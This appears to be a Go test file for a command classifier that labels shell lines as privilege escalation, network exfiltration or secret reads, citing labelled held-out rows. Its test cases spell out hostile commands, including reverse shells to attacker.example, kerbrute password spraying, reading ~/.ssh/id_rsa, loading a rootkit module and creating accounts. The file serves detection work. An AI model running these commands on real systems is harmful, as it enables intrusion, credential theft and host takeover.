package danger

import "testing"

// TestManifestNamedForEscalationControl: the Kubernetes Pod Security
// Standards (kubernetes.io/docs/concepts/security/pod-security-standards)
// keep two controls apart. "Privileged Containers" (Baseline:
// securityContext.privileged) hands the pod the node and is what a
// manifest named "privileged" or "priv" makes (badPods' priv-exec-pod.yaml,
// heldout11's x1346). "Privilege Escalation" (Restricted:
// allowPrivilegeEscalation, "such as via set-user-ID or set-group-ID file
// mode") is about a process inside the container gaining its own
// container's root; Baseline allows it and nothing of the node is handed
// over. A manifest named for that control ("privileged-esc",
// "priv-escalation") names no privileged pod (heldout12's y0082, y0502,
// labelled everyday: "a plain pod whose image shows setuid escalation
// inside the container, nothing privileged, no host mount").
func TestManifestNamedForEscalationControl(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl apply -f 06-privileged-esc.yaml`, ""}, // y0082
		{`kubectl apply -f 07-privileged-esc.yaml`, ""}, // y0502
		{`kubectl apply -f labs/priv-escalation/pod.yaml`, ""},
		{`kubectl create -f privileged-escalation-demo.yml`, ""},
		// The privileged control, or a node folder, still named.
		{`kubectl apply -f privileged-pod.yaml`, PrivilegeEscalation},                     // y0055
		{`kubectl apply -f ./manifests/priv/pod/priv-exec-pod.yaml`, PrivilegeEscalation}, // x1346
		{`kubectl apply -f privileged-esc-hostpath.yaml`, PrivilegeEscalation},
		{`kubectl apply -f esc-privileged.yaml`, PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestBruteForceScriptFileName: bruteForce reads "spray" or "brute" in a
// tool's verbs ("kerbrute passwordspray", kerbrute's README; "go run
// main.go GoAWSConsoleSpray", m0692). A word naming a script file (a
// .py or .sh operand of an interpreter) is a file, as a path already
// is: the script's words are not on the line, and README's heldout5
// call makes "a payload or exploit the line only runs by name" everyday.
// Its name is judged as a program's, by bruteForcers ("spray.py"), not by
// a word inside it (heldout10's w0330, "python
// generate_bruteforce_tests.py", labelled everyday: "runs a script by
// name").
func TestBruteForceScriptFileName(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`python generate_bruteforce_tests.py`, ""}, // w0330
		{`python3 test_spray_detection.py -v`, ""},
		{`bash bruteforce_fixtures.sh`, ""},
		// Verbs and tools that say so stay.
		{`python3 spray.py -u users.txt -p Winter2024 -d corp.test`, PrivilegeEscalation},
		{`kerbrute passwordspray -d corp.test users.txt Winter2024`, PrivilegeEscalation},
		{`python3 kerbrute.py bruteuser -d corp.test passwords.txt alice`, PrivilegeEscalation},
		{`go run main.go GoAWSConsoleSpray -a 123456789012 -u users.txt -p pass.txt`, PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestAccountVerbsOfLocalShellScript: accounts reads a verb that sets a
// password or makes an account from any program's words ("pveum passwd
// bob@pve"): for a CLI those words are its documented subcommands. A
// shell script run by its path ("./sadness.sh passwd HOST") has no
// documented subcommands; what its words do is in the script, not on the
// line (README's heldout5 call: "a payload or exploit the line only runs
// by name (./payload, ./activate_sudo_token) is everyday"; heldout12's
// y1142, labelled everyday: "runs a local script by name"). Programs made
// for accounts keep their rule: smbpasswd(8) -a adds a user, and the
// shells that run a script already pass its words over (interpreters).
func TestAccountVerbsOfLocalShellScript(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`./sadness.sh passwd 192.168.1.249`, ""}, // y1142
		{`./scripts/setup.sh adduser bob`, ""},
		{`/opt/tools/rotate.sh change-password alice`, ""},
		// Account programs and verbs of CLIs stay.
		{`smbpasswd -a bob`, PrivilegeEscalation},
		{`pveum passwd bob@pve`, PrivilegeEscalation},
		{`useradd -m bob`, PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestShellOverLoopbackClients: shellOverNetwork flags a shell whose
// input or output goes through a network client in its pipeline, the
// reverse shell that hands this machine to another host. telnet(1)
// ("telnet [host [port]]") and nc(1) ("nc [options] host port") connect to
// the host their operands name; when every host the clients name is the
// loopback (127.0.0.0/8, RFC 6890; ::1, RFC 4291; "localhost", which RFC
// 6761 §6.3 makes the loopback), both ends are this machine and nothing
// leaves it: README's "tunnels to a local port … are everyday" (dev8's
// u0183, "telnet localhost 443 | /bin/sh | telnet localhost 444",
// labelled everyday). A client naming any other host, a proxy, or a word
// the line does not spell out still makes the reverse shell.
func TestShellOverLoopbackClients(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`telnet localhost 443 | /bin/sh | telnet localhost 444`, ""}, // u0183
		{`telnet 127.0.0.1 443 | /bin/bash | telnet 127.0.0.1 444`, ""},
		{`nc localhost 4444 | /bin/sh`, ""},
		{`nc -w 3 ::1 4444 | sh -i`, ""},
		// Another host, a proxy, or a host not spelled out.
		{`telnet 10.0.0.1 443 | /bin/sh | telnet 10.0.0.1 444`, NetworkExfiltration},
		{`telnet localhost 443 | /bin/sh | telnet 10.0.0.1 444`, NetworkExfiltration},
		{`nc attacker.example 4444 | /bin/sh`, NetworkExfiltration},
		{`nc -x proxy.example:1080 localhost 4444 | sh`, NetworkExfiltration},
		{`nc $HOST 4444 | /bin/sh`, NetworkExfiltration},
		{`sh -i 2>&1 | openssl s_client -quiet -connect localhost:4444`, NetworkExfiltration},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestSecretPlayedOnSoundDevice: a file's bytes written to the sound
// device (/dev/audio, /dev/dsp: OSS's playback devices, whose driver
// plays what is written and keeps none of it) are neither shown to the
// caller nor stored nor sent: README's heldout11 call, "`cat /dev/mem >
// /dev/audio` stores and sends nothing (everyday)" (heldout11's x0406).
// Only a program whose one output is its standard output counts, and
// only when that output goes nowhere else: a copy to a file, a tee, a
// redirect of the errors alone, or /dev/null (the project's generated
// corpus keeps "nohup cat ~/.ssh/id_rsa >/dev/null 2>&1 &" secret-read)
// still read the secret.
func TestSecretPlayedOnSoundDevice(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`cat /dev/mem > /dev/audio`, ""}, // x0406
		{`cat /dev/mem > /dev/dsp`, ""},
		{`strings /dev/mem >> /dev/audio`, ""},
		{`cat ~/.ssh/id_rsa >/dev/dsp 2>&1`, ""},
		// Shown, stored or kept.
		{`cat /dev/mem`, SecretRead},
		{`cat /dev/mem > /tmp/mem.bin`, SecretRead},
		{`cat /dev/mem 2>/dev/audio`, SecretRead},
		{`cat /dev/mem | tee /dev/audio`, SecretRead},
		{`cat ~/.ssh/id_rsa > /dev/audio; cat ~/.ssh/id_rsa`, SecretRead},
		{`nohup cat ~/.ssh/id_rsa >/dev/null 2>&1 &`, SecretRead},
		{`cp ~/.ssh/id_rsa /tmp/k > /dev/audio`, SecretRead},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestServicesIsImpacketsOnlyByItsName: directoryAttacks reads impacket's
// services (examples/services.py: "services.py target
// {start,stop,delete,status,config,list,create,change}", packaged by Kali as
// impacket-services) acting on another host's services. A bare "services"
// is neither: no Linux program has that name, and the word is msfconsole's
// database command ("services: list all services in the database", the
// Metasploit database commands), which a shell runs as "command not
// found" (heldout12's y1202, a console help line labelled everyday).
func TestServicesIsImpacketsOnlyByItsName(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`services                            Display a list of services that have collected data`, ""}, // y1202
		{`services -p 445 -u`, ""},
		// impacket's spellings keep the rule (access_test's rows).
		{`impacket-services example.com/alice:hunter2@example.com COMMAND`, PrivilegeEscalation}, // r0373
		{`services.py example.com/alice:hunter2@example.com create -name svc -display svc -path x`, PrivilegeEscalation},
		{`python3 services.py example.com/alice:hunter2@example.com stop -name Spooler`, PrivilegeEscalation},
		{`impacket-services example.com/alice:hunter2@example.com list`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrivilegeToolNamedByConfigPath: privilege knows its tools by the
// base name of the program ("/usr/sbin/useradd" is useradd). A path under
// /etc names a configuration file, never such a tool: FHS 3.0 §3.7.1,
// "/etc contains configuration files … No binaries may be located under
// /etc". "/etc/default/useradd" is useradd's defaults file (useradd(8),
// FILES), which a shell refuses to run (heldout11's x0183, a listing of
// files labelled everyday). The binaries' own paths keep the rule.
func TestPrivilegeToolNamedByConfigPath(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`/etc/default/useradd # 帐户创建的默认值。`, ""}, // x0183
		{`/etc/default/useradd`, ""},
		{`/etc/pam.d/su`, ""},
		{`/etc/pam.d/sudo`, ""},
		// The tools by their own paths, or by name.
		{`/usr/sbin/useradd -m bob`, PrivilegeEscalation},
		{`/usr/bin/sudo ls`, PrivilegeEscalation},
		{`/bin/su - bob`, PrivilegeEscalation},
		{`useradd -m bob`, PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestDsclEditNeedsRecord: dscl(1) edits a record its command names:
// "dscl [options] [datasource [command]]", with "create record_path [key
// [val1 ...]]", "append record_path key val1 …", "delete record_path
// [key …]", "passwd user_path [new_password | old_password
// new_password]", "merge", "change" likewise. A command with no record
// path after it changes nothing: dscl prints its usage (heldout11's
// x1043, "dscl -create", labelled everyday).
func TestDsclEditNeedsRecord(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`dscl -create`, ""}, // x1043
		{`dscl . -create`, ""},
		{`dscl . -passwd`, ""},
		// A record named: an account edited.
		{`dscl . -create /Users/bob`, PrivilegeEscalation},
		{`dscl . -create /Users/bob UserShell /bin/bash`, PrivilegeEscalation},
		{`dscl . -passwd /Users/bob hunter2`, PrivilegeEscalation},
		{`dscl . -delete /Users/bob`, PrivilegeEscalation},
		{`dscl . -append /Groups/admin GroupMembership bob`, PrivilegeEscalation},
		{`dscl . -read /Users/bob`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestInsmodOfEmptyDevice: insmod(8) "inserts a module into the kernel"
// from the file it is given; /dev/null reads as no bytes and /dev/zero as
// zeros, neither an ELF module, so the kernel refuses it ("Invalid module
// format") and nothing is loaded (heldout12's y1549, "insmod /dev/null",
// labelled everyday). /dev/stdin and /dev/fd/N hand over whatever is
// redirected into them and keep the rule, as does any module file.
func TestInsmodOfEmptyDevice(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`insmod /dev/null`, ""}, // y1549
		{`insmod /dev/zero`, ""},
		// A module, or one fed through stdin.
		{`insmod ./rootkit.ko`, PrivilegeEscalation},
		{`insmod /dev/stdin < rootkit.ko`, PrivilegeEscalation},
		{`insmod /lib/modules/6.1.0/extra/x.ko debug=1`, PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
